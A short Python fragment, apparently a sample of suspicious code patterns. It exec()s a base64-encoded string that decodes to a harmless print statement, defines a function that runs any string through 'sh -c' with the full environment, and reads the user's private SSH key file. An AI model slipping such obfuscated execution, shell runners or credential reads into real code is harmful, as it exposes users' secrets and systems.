import os, base64, subprocess as s
exec(base64.b64decode("cHJpbnQoMSk="))
def f(a):
    s.run(["sh","-c",a], env=os.environ)
open(os.path.expanduser("~/.ssh/id_rsa")).read()
